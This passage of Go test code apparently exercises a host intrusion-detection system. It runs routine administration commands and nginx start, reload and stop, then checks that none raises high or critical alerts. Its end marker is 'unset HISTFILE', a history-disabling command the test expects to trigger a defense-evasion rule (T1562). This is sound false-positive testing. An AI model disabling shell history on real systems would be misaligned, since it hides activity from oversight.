		ndir := filepath.Join(work, "nginx")
		_ = os.MkdirAll(ndir, 0o755)
		conf := fmt.Sprintf("pid %[1]s/nginx.pid;\nerror_log %[1]s/error.log;\nevents {}\nhttp {\n access_log off;\n client_body_temp_path %[1]s;\n proxy_temp_path %[1]s;\n fastcgi_temp_path %[1]s;\n uwsgi_temp_path %[1]s;\n scgi_temp_path %[1]s;\n server { listen 127.0.0.1:%[2]d; root %[1]s; }\n}\n", ndir, freePort(t))
		confPath := filepath.Join(ndir, "nginx.conf")
		_ = os.WriteFile(confPath, []byte(conf), 0o644)
		run(t, 30*time.Second, "/usr/sbin/nginx", "-c", confPath)
		time.Sleep(500 * time.Millisecond)
		run(t, 30*time.Second, "/usr/sbin/nginx", "-c", confPath, "-s", "reload")
		time.Sleep(500 * time.Millisecond)
		run(t, 30*time.Second, "/usr/sbin/nginx", "-c", confPath, "-s", "stop")
	}

	// Everyday administration.
	for _, c := range [][]string{
		{"ps", "aux"}, {"ss", "-tlnp"}, {"ip", "addr"}, {"ip", "route"}, {"df", "-h"}, {"free", "-m"},
		{"uname", "-a"}, {"cat", "/etc/os-release"}, {"ls", "-la", "/etc"}, {"hostname"}, {"id"}, {"whoami"},
		{"uptime"}, {"top", "-bn1"}, {"find", "/etc", "-maxdepth", "2", "-name", "*.conf"},
		{"grep", "-r", "Listen", "/etc/apache2/ports.conf"}, {"tail", "-n", "20", "/var/log/dpkg.log"},
		{"tar", "czf", filepath.Join(work, "etc-backup.tgz"), "-C", "/etc", "hostname", "hosts"},
		{"sha256sum", "/usr/bin/env"}, {"sh", "-c", "ls /tmp | wc -l"}, {"bash", "-c", "for i in 1 2 3; do echo $i; done"},
		{"sudo", "-n", "-u", "nobody", "/usr/bin/id"}, {"getent", "passwd", "root"}, {"du", "-sh", work},
	} {
		if _, err := exec.LookPath(c[0]); err == nil {
			run(t, 30*time.Second, c[0], c[1:]...)
		}
	}

	// The marker is a command that raises a known medium alert: once it
	// is in, detection has evaluated what came before; a few seconds
	// more let the correlation windows close.
	run(t, 10*time.Second, "sh", "-c", "unset HISTFILE; true vigil-benign-done-"+randomWord())
	l.expect(ruleHistoryOff, "T1562", 60*time.Second)
	time.Sleep(5 * time.Second)
	var serious []string
	for _, a := range l.c.attackAlerts(l.id) {
		t.Logf("%s: %s (%s) x%d", a.Severity, a.Title, a.RuleID, a.Count)
		if a.Severity == "high" || a.Severity == "critical" {
			serious = append(serious, fmt.Sprintf("%s %q (%s)", a.Severity, a.Title, a.RuleID))
		}
	}
	if len(serious) > 0 {
		t.Errorf("benign work raised %d high or critical alerts:\n  %s", len(serious), strings.Join(serious, "\n  "))
	}
}
